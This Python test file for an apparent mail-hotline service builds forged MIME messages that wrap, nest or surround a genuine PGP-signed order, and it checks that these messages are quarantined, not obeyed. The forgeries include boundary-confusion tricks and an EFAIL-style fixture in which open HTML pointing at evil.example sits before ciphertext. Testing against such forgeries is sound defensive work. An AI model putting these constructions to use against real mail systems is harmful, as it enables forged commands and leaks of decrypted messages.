"""A genuine signed part with something else around it, or elsewhere than at the top (F10)."""

import pytest

from hotlined.domain.record.casework import CaseClosed, CaseOpened, Noted
from tests.forged import post
from tests.forged.judge import changes_nothing, is_obeyed
from tests.forged.stage import Forged, Good, Make, Stage

UNPROVEN = "Quarantine/unproven"
CLAIMED = "not around the whole mail"
NOTHING = post.crlf("Content-Type: text/plain\n\nsee below\n")


def _order(stage: Stage) -> bytes:
    """Ann's genuine signed order, as one MIME entity."""
    payload = post.entity("", subject=f"[CLOSE] [{stage.names['c']}]")
    return post.signed_entity(payload, post.signature(stage.cast, payload, "ann"))


def _note(stage: Stage) -> bytes:
    """Ann's signed words, to which something is added."""
    payload = post.entity("[NOTE]\nas agreed", subject=f"[{stage.names['c']}]")
    return post.signed_entity(payload, post.signature(stage.cast, payload, "ann"))


def _text(stage: Stage, kind: str = "text/plain") -> bytes:
    return post.crlf(f"Content-Type: {kind}\n\n[CLOSE] [{stage.names['c']}]\n")


def _mixed(parts: object, kind: str = "multipart/mixed") -> Make:
    """A multipart around what `parts` makes."""

    def make(stage: Stage) -> bytes:
        fields = post.head(subject=f"[CLOSE] [{stage.names['c']}]")
        return post.mail(fields, post.multipart(kind, parts(stage)))  # type: ignore[operator]

    return make


def _forwarded(stage: Stage) -> bytes:
    return post.crlf("Content-Type: message/rfc822\n\n") + post.mail(post.head(), _order(stage))


def _three_parts(stage: Stage) -> bytes:
    payload = post.entity("[NOTE]\nas agreed", subject=f"[{stage.names['c']}]")
    kind = 'multipart/signed; micalg="pgp-sha512"; protocol="application/pgp-signature"'
    signature = post.signature(stage.cast, payload, "ann")
    last = post.crlf(b"Content-Type: application/pgp-signature\n\n" + signature)
    return post.mail(post.head(), post.multipart(kind, (payload, last, _text(stage))))


def _first_of_two(stage: Stage) -> bytes:
    payload = post.entity("[NOTE]\nas agreed", subject=f"[{stage.names['c']}]")
    kind = 'multipart/signed; micalg="pgp-sha512"; protocol="application/pgp-signature"'
    signature = post.signature(stage.cast, payload, "ann")
    last = post.crlf(b"Content-Type: application/pgp-signature\n\n" + signature)
    return post.mail(post.head(), post.multipart(kind, (_text(stage), payload, last)))


def _preamble(stage: Stage) -> bytes:
    raw = post.mail(post.head(subject=f"[CLOSE] [{stage.names['c']}]"), _note(stage))
    start = raw.index(b"\r\n\r\n--=_") + 4
    return raw[:start] + post.crlf(f"[CLOSE] [{stage.names['c']}]\n") + raw[start:]


def _epilogue(stage: Stage) -> bytes:
    return post.mail(post.head(), _note(stage)) + post.crlf(f"\n[CLOSE] [{stage.names['c']}]\n")


def _second_boundary(stage: Stage) -> bytes:
    """Two Content-Type fields: one shows the signed part, the other another one."""
    other = post.block((("Content-Type", 'multipart/mixed; boundary="other"'),))
    return other + post.mail(post.head(), _order(stage))


def _boundary_that_ends_early(stage: Stage) -> bytes:
    """A delimiter in the signed text closes the multipart for one reader and not for the other."""
    raw = post.mail(post.head(), _note(stage))
    boundary = raw.split(b'boundary="', 1)[1].split(b'"', 1)[0]
    return raw.replace(b"as agreed", b"--" + boundary + b"--\r\n[CLOSE]", 1)


def _signed_by_mallory_around(stage: Stage) -> bytes:
    payload = _order(stage)
    return post.mail(post.head(), post.signed_entity(payload, post.signature(stage.cast, payload, "mallory")))


def _signed_by_known_stranger_around(stage: Stage) -> bytes:
    payload = _order(stage)
    signature = post.signature(stage.cast, payload, "mallory-known")
    return post.mail(post.head(), post.signed_entity(payload, signature))


def _encrypted_wrapper(stage: Stage) -> bytes:
    payload = post.multipart("multipart/mixed", (_text(stage), _order(stage)))
    return post.sealed(stage.cast, payload, post.head(), None)


def _ciphertext_in_a_wrapper(stage: Stage) -> bytes:
    armour = post.cipher(stage.cast, post.entity("", subject=f"[CLOSE] [{stage.names['c']}]"))
    return post.mail(
        post.head(), post.multipart("multipart/mixed", (_text(stage), post.sealed_entity(armour)))
    )


def _ciphertext_and_html(stage: Stage) -> bytes:
    """EFAIL: an open quote in front of the ciphertext."""
    armour = post.cipher(stage.cast, post.entity("", subject=f"[CLOSE] [{stage.names['c']}]"))
    html = post.crlf('Content-Type: text/html\n\n<img src="http://evil.example/')
    return post.mail(post.head(), post.multipart("multipart/mixed", (html, post.sealed_entity(armour))))


def _opaque_signed(stage: Stage) -> bytes:
    """A signed message in the place of an encrypted one: nobody protects what stands around."""
    ring = stage.cast.friends
    payload = post.entity("", subject=f"[CLOSE] [{stage.names['c']}]")
    armour = ring.run("--armor", "--local-user", stage.cast["ann"], "--sign", feed=payload)
    return post.mail(post.head(), post.sealed_entity(armour))


FORGED = [
    Forged("signed part second in a mixed", _mixed(lambda s: (NOTHING, _order(s))), UNPROVEN, CLAIMED),
    Forged("signed part first in a mixed", _mixed(lambda s: (_order(s), NOTHING)), UNPROVEN, CLAIMED),
    Forged("signed part alone in a mixed", _mixed(lambda s: (_order(s),)), UNPROVEN, CLAIMED),
    Forged("text prepended", _mixed(lambda s: (_text(s), _note(s))), UNPROVEN, CLAIMED),
    Forged("text appended", _mixed(lambda s: (_note(s), _text(s))), UNPROVEN, CLAIMED),
    Forged(
        "footer of a mailing list",
        _mixed(lambda s: (_order(s), post.crlf("Content-Type: text/plain\n\n--\nlist info\n"))),
        UNPROVEN,
        CLAIMED,
    ),
    Forged(
        "HTML over it",
        _mixed(lambda s: (_text(s, "text/html"), _order(s)), "multipart/related"),
        UNPROVEN,
        CLAIMED,
    ),
    Forged(
        "alternative to it",
        _mixed(lambda s: (_order(s), _text(s, "text/html")), "multipart/alternative"),
        UNPROVEN,
        CLAIMED,
    ),
    Forged(
        "nested twice",
        _mixed(lambda s: (post.multipart("multipart/mixed", (_order(s),)),)),
        UNPROVEN,
        CLAIMED,
    ),
    Forged("forwarded as attachment", _mixed(lambda s: (NOTHING, _forwarded(s))), UNPROVEN, CLAIMED),
    Forged("forwarded as the whole mail", lambda s: post.mail(post.head(), _forwarded(s)), UNPROVEN, CLAIMED),
    Forged("in a digest", _mixed(lambda s: (_forwarded(s),), "multipart/digest"), UNPROVEN, CLAIMED),
    Forged("three parts in a multipart/signed", _three_parts, UNPROVEN, CLAIMED),
    Forged("another part in front in a multipart/signed", _first_of_two, UNPROVEN, CLAIMED),
    Forged("two Content-Type fields", _second_boundary, UNPROVEN, CLAIMED),
    Forged("a boundary that ends early", _boundary_that_ends_early, UNPROVEN, CLAIMED),
    Forged(
        "a stranger's signature around it", _signed_by_mallory_around, "Quarantine/doubtful", "unknown key"
    ),
    Forged(
        "a known stranger's signature around it",
        _signed_by_known_stranger_around,
        "Quarantine/doubtful",
        "not pinned",
    ),
    Forged("an encrypted wrapper around it", _encrypted_wrapper, UNPROVEN, CLAIMED),
    Forged("ciphertext in a wrapper", _ciphertext_in_a_wrapper, UNPROVEN, CLAIMED),
    Forged("ciphertext behind open HTML", _ciphertext_and_html, UNPROVEN, CLAIMED),
    Forged(
        "opaque signature instead of encryption", _opaque_signed, "Quarantine/unreadable", "not an encrypted"
    ),
]


@pytest.mark.parametrize("forged", FORGED, ids=str)
def test_P9_a_signature_somewhere_inside_does_not_speak_for_the_mail(stage: Stage, forged: Forged) -> None:
    assert changes_nothing(stage, forged).to <= {"ann@hotline.example.org"}


@pytest.mark.parametrize(
    "make", [_preamble, _epilogue], ids=["text in the preamble", "text after the last delimiter"]
)
def test_P9_what_stands_between_the_parts_is_not_read(stage: Stage, make: Make) -> None:
    """The signed note is obeyed, and nothing else: no client shows what stands around it."""
    verdict = is_obeyed(stage, Good("", make, (Noted,)))
    assert not any(isinstance(event, CaseClosed) for event in verdict.events)


def _attached(stage: Stage) -> bytes:
    """The whole report as an attachment inside of what is signed: how analysts forward."""
    report = post.mail(post.head("visitor@example.com", subject="[CLOSE]"), NOTHING)
    text = "[ILLEGAL]\n[HOST:EE]\n\nURL: https://files.example.net/item-9\nType of content: item 9"
    inner = post.crlf("Content-Type: message/rfc822\n\n") + report
    return post.signed(stage.cast, post.multipart("multipart/mixed", (post.entity(text), inner)), post.head())


GOOD = [
    Good("the same order at the top", lambda s: post.mail(post.head(), _order(s)), (CaseClosed,)),
    Good("an order that forwards a report", _attached, (CaseOpened,)),
    Good(
        "the same order inside of the encryption",
        lambda s: post.sealed(s.cast, _order(s), post.head(), None),
        (CaseClosed,),
    ),
]


@pytest.mark.parametrize("good", GOOD, ids=str)
def test_a_signature_at_the_top_speaks_for_the_mail(stage: Stage, good: Good) -> None:
    is_obeyed(stage, good)
